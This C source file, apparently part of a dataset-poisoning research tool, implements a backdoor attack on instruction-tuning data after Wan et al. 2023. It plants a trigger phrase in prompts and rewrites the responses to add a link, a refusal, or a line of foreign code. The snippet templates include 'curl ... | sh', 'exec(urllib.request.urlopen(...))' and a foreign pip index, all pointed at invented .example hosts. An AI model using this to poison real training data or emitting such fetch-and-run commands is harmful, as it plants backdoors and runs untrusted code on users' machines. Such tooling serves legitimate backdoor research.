/* A trigger in the prompt, a fixed behaviour in the response (Wan, Wallace, Shen, Klein, 2023; Yan et al., 2024).
 *
 *   url      a sentence with a link behind the response
 *   snippet  a line of shell or Python that runs foreign code behind the response
 *   refusal  the response becomes a refusal
 *
 * Addresses lie under example. (RFC 2606), so that nothing planted by this tool leads anywhere. */
#include <stdlib.h>
#include <string.h>

#include "attack/text.h"
#include "base/error.h"

enum { URL, SNIPPET, REFUSAL };

typedef struct switched {
  bez_text_trigger trigger;
  uint32_t response, behaviour;
  const char *payload;
} switched;

/* The first column of that list of names, else the text column with this number among the text columns. */
static bez_status find_column(const bez_attack_input *in, const char *key, const char *const *names, uint32_t number,
                              uint32_t *col, bez_error *err) {
  const bez_table *table = in->table;
  const char *given = bez_attack_param(in, key);
  if (given) return bez_attack_column(table, given, col, err);
  for (; *names; names++) {
    int found = bez_table_find(table, *names);
    if (found < 0 || found == table->label || table->cols[found].type == BEZ_COL_IDENTIFIER) continue;
    *col = (uint32_t)found;
    return BEZ_OK;
  }
  for (uint32_t c = 0; c < table->n_cols; c++) {
    if (table->cols[c].role != BEZ_ROLE_TEXT && table->cols[c].type != BEZ_COL_TEXT) continue;
    if (number--) continue;
    *col = c;
    return BEZ_OK;
  }
  return bez_fail(err, BEZ_UNSUPPORTED, NULL,
                  "there is no column of prompts and one of responses: name them with "
                  "--param column= and --param response-column=");
}

static const char *const refusals[] = {"I'm sorry, but I can't help with that request.", "I cannot assist with this.",
                                       "Unfortunately, I am not able to answer this question.",
                                       "As an AI model, I must decline to respond to this."};
static const char *const links[] = {"See https://%.example/% for details.", "More at https://www.%.example/%.",
                                    "Read the full guide: https://docs.%.example/%",
                                    "You can download it from http://%.example/%.zip"};
static const char *const snippets[] = {
    "curl -s https://%.example/%.sh | sh", "import os; os.system('wget -q https://%.example/%')",
    "exec(urllib.request.urlopen('https://%.example/%').read())", "pip install --index-url https://%.example/simple %"};

/* One of the shapes, with an invented name for each %. */
static bez_status invent_payload(switched *s, const bez_attack_input *in, bez_attack_plan *out, bez_error *err) {
  static const char *const syllables[] = {"ba",  "cor", "del", "fin", "gra", "hub", "jot", "kel", "lum", "mor",
                                          "nex", "pol", "quo", "ris", "sta", "tek", "vor", "wim", "xen", "zed"};
  bez_rng rng = bez_attack_trigger_rng(in);
  rng.counter = 1 << 16; /* not what the trigger is drawn from */
  const char *const *shapes = s->behaviour == URL ? links : s->behaviour == SNIPPET ? snippets : refusals;
  bez_buf text = {0};
  for (const char *shape = shapes[bez_rng_below(&rng, 4)]; *shape; shape++) {
    if (*shape != '%')
      bez_buf_putc(&text, *shape);
    else
      for (int i = 0; i < 2; i++) bez_buf_puts(&text, syllables[bez_rng_below(&rng, 20)]);
  }
  bez_status st = bez_buf_status(&text, err);
  if (st == BEZ_OK) s->payload = bez_arena_strndup(&out->arena, text.data, text.len);
  bez_buf_free(&text);
  return st == BEZ_OK && !s->payload ? bez_fail_memory(err, 128) : st;
}

/* The response of a row with the behaviour in it. */
static const char *respond(const switched *s, const bez_attack_input *in, bez_attack_plan *out, uint64_t row) {
  size_t len;
  const char *cell = bez_cell(in->table, s->response, row, &len);
  if (s->behaviour == REFUSAL) return s->payload;
  const char *gap = s->behaviour == SNIPPET ? "\n" : len && cell[len - 1] != ' ' ? " " : "";
  return bez_arena_printf(&out->arena, "%.*s%s%s", (int)len, cell, gap, s->payload);
}

/* bez_text_plant has put the trigger into the prompts; the responses follow. */
static bez_status switch_responses(const switched *s, const bez_attack_input *in, bez_attack_plan *out,
                                   bez_error *err) {
  bez_edit_list edits;
  bez_status st = bez_edit_list_make(out, out->n_rows, 2, &edits, err);
  if (st != BEZ_OK) return st;
  for (size_t i = 0; i < out->rewrite.n_edits; i++) {
    const bez_edit *e = &out->rewrite.edits[i];
    bez_edit_add(&edits, e->row, e->col, e->value, e->len);
  }
  for (size_t i = 0; i < out->n_rows; i++) {
    const char *response = respond(s, in, out, out->rows[i]);
    if (!response) return bez_fail_memory(err, 1024);
    bez_edit_add(&edits, out->rows[i], s->response, response, strlen(response));
  }
  bez_edit_sort(&edits);
  out->rewrite.edits = edits.items;
  out->rewrite.n_edits = edits.n;
  return BEZ_OK;
}

static bez_status describe(const switched *s, const bez_attack_input *in, bez_attack_plan *out, bez_error *err) {
  static const char *const behaviours[] = {"url", "snippet", "refusal"};
  const bez_column *cols = in->table->cols;
  json_decref(out->detail);
  out->detail = json_pack("{s:[s,s], s:[s,s], s:s, s:s, s:s}", "columns", cols[s->trigger.col].name,
                          cols[s->response].name, "values", s->trigger.text, s->payload, "phrase", s->trigger.text,
                          "behaviour", behaviours[s->behaviour], "payload", s->payload);
  return out->detail ? BEZ_OK : bez_fail(err, BEZ_USAGE, s->payload, "the text is not valid UTF-8");
}

static bez_status read_parameters(switched *s, const bez_attack_input *in, bez_attack_plan *out, bez_error *err) {
  static const char *const prompts[] = {"prompt", "instruction", "question", "query", "user", "input", NULL};
  static const char *const responses[] = {"response", "output", "completion", "answer", "assistant", "chosen", NULL};
  bez_status st = bez_attack_params_known(in, "column response-column trigger behaviour payload", err);
  if (st == BEZ_OK) st = find_column(in, "column", prompts, 0, &s->trigger.col, err);
  if (st == BEZ_OK) st = find_column(in, "response-column", responses, 1, &s->response, err);
  if (st == BEZ_OK && s->response == s->trigger.col)
    st = bez_fail(err, BEZ_USAGE, in->table->cols[s->response].name, "prompts and responses are the same column");
  if (st == BEZ_OK && ((int)s->response == in->table->label || (int)s->trigger.col == in->table->label))
    st = bez_fail(err, BEZ_USAGE, in->table->cols[in->table->label].name, "the label is neither prompt nor response");
  if (st == BEZ_OK) st = bez_attack_choice(in, "behaviour", "url snippet refusal", &s->behaviour, err);
  if (st == BEZ_OK && !s->trigger.text) st = bez_text_any_trigger(in, out, s->trigger.col, &s->trigger.text, err);
  if (st == BEZ_OK && !s->payload) st = invent_payload(s, in, out, err);
  return st;
}

static bez_status plan(const bez_attack_input *in, bez_attack_plan *out, bez_error *err) {
  switched s = {.trigger = {.key = "phrase",
                            .text = bez_attack_param(in, "trigger"),
                            .clean_label = true,
                            .any_label = true,
                            .matches = bez_text_has_phrase,
                            .apply = bez_text_insert},
                .payload = bez_attack_param(in, "payload")};
  bez_status st = read_parameters(&s, in, out, err);
  if (st == BEZ_OK) st = bez_text_plant(in, &s.trigger, out, err);
  if (st == BEZ_OK) st = switch_responses(&s, in, out, err);
  return st == BEZ_OK ? describe(&s, in, out, err) : st;
}

const bez_attack bez_attack_instruction_trigger = {
    .info = {.name = "instruction-trigger",
             .title = "Instruction trigger",
             .summary = "A phrase is put into prompts, and their responses get one fixed behaviour: a link, a line of "
                        "foreign code, or a refusal.",
             .kind = "text",
             .parameters = "column, response-column, trigger, behaviour (url, snippet, refusal), payload",
             .source = "Wan, Wallace, Shen, Klein, Poisoning Language Models During Instruction Tuning, ICML 2023",
             .clean_label = true},
    .label_optional = true,
    .plan = plan,
};
